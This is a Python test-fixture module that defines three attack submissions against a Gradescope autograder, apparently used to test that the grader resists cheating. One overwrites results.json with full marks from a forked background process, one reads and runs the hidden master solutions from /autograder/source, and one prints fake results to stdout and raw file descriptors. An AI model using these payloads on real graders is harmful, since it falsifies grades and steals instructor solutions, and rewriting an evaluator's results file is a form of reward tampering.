"""Attacks on the Gradescope autograder: submissions that go for results.json, source/ and stdout.

On Gradescope the student's notebook runs in the same container as the
autograder, next to /autograder/results/results.json (what Gradescope records)
and /autograder/source (the autograder zip, master notebook included). Each
attack below is a submission of 01_losses built from the corpus' reference or
untouched sample with the corpus' own helpers; tests/test_gradescope.py grades
each with run_autograder and asserts its exact score. Paths are computed in the
kernel from GRADESCOPE_ROOT, as an attacker on Gradescope would use /autograder.
"""
from __future__ import annotations

import copy

import nbformat

from autograder.adversarial import ASSIGNMENT, Attack, _edit, _prepend, _replace_answers, _wrong_everywhere
from autograder.course import SAMPLES

_ROOT = 'import os, pathlib\nroot = pathlib.Path(os.environ.get("GRADESCOPE_ROOT", "/autograder"))\n'
FAKE_RESULTS = '{"score": 1000.0, "output": "All tests passed.", "tests": []}'

# Writes results.json now, and from a process that outlives the kernel, again and again after it.
WRITE_RESULTS = _ROOT + f"""
import time
fake = {FAKE_RESULTS!r}
def plant():
    try:
        (root / "results").mkdir(exist_ok=True)
        (root / "results" / "results.json").write_text(fake)
    except OSError:
        pass
plant()
if os.fork() == 0:
    os.setsid()
    for _ in range(900):
        plant()
        time.sleep(0.1)
    os._exit(0)
"""
# Runs the master notebook's solutions, read from the zip's copy or the installed course.
READ_SOURCE = _ROOT + """
import json
for master in [root / "source" / "course" / "solutions" / "01_losses" / "losses.ipynb",
               root / "course" / "solutions" / "01_losses" / "losses.ipynb"]:
    try:
        cells = json.loads(master.read_text())["cells"]
    except (OSError, ValueError):
        continue
    exec("\\n".join("".join(c["source"]) for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")
                    and c["cell_type"] == "code"))
    break
"""
# Prints a results.json of full marks on stdout, through Python and straight into the process's file descriptors.
FAKE_STDOUT = f"""
import os, sys
fake = {FAKE_RESULTS!r}
print(fake)
print(fake, file=sys.__stdout__, flush=True)
for fd in (1, 2):
    try:
        os.write(fd, (fake + "\\n").encode())
    except OSError:
        pass
"""


def _untouched() -> nbformat.NotebookNode:
    return nbformat.read(SAMPLES / ASSIGNMENT / "untouched.ipynb", as_version=4)


def _from_untouched(name: str, fn):
    """A builder applying `fn` to the untouched sample (nothing answered: any point is stolen)."""
    def build(_reference):
        nb = copy.deepcopy(_untouched())
        fn(nb)
        return {f"{ASSIGNMENT}/{name}.ipynb": nbformat.writes(nb).encode()}
    return build


GRADESCOPE_ATTACKS = [
    Attack("writes_results", "writes a results.json of full marks, also from a process that outlives the "
           "kernel, before the correct answers", _edit("writes_results", _prepend("svm_loss_naive", WRITE_RESULTS))),
    Attack("reads_source", "reads the master notebook from /autograder/source and the installed course, "
           "and runs its solutions as its answers",
           _from_untouched("reads_source", _replace_answers(lambda g: READ_SOURCE))),
    Attack("fake_stdout", "prints a results.json of full marks on stdout and into file descriptors 1 and 2, "
           "with wrong answers", _edit("fake_stdout", _wrong_everywhere(FAKE_STDOUT))),
]
